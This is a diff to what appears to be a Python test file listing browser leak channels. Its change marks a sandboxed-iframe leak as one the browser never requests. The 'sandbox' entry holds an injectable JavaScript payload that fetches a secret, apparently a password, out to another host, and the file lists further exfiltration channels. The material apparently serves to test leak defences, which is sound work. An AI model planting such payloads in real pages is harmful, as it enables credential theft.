@@ -290,8 +290,8 @@ LEAKS |= {
     "sandbox": "event.preventDefault(); document.body.insertAdjacentHTML('beforeend', `<iframe sandbox=allow-scripts"
     " srcdoc=\"<script>fetch('${to}/x?q=${p}', {mode: 'no-cors'})</script>\"></iframe>`);",
 }
-# With the browser told to load no pictures, one that would carry the password is not even asked for.
-UNSEEN = {"image"}
+# Not even asked for: a picture, where the browser is told to load none, and what a frame without an origin fetches.
+UNSEEN = {"image", "sandbox"}
 # Another port is another origin; another host may be another process of the browser as well.
 OTHER_HOST = ("fetch", "beacon", "frame", "action", "blank", "window", "websocket")
 
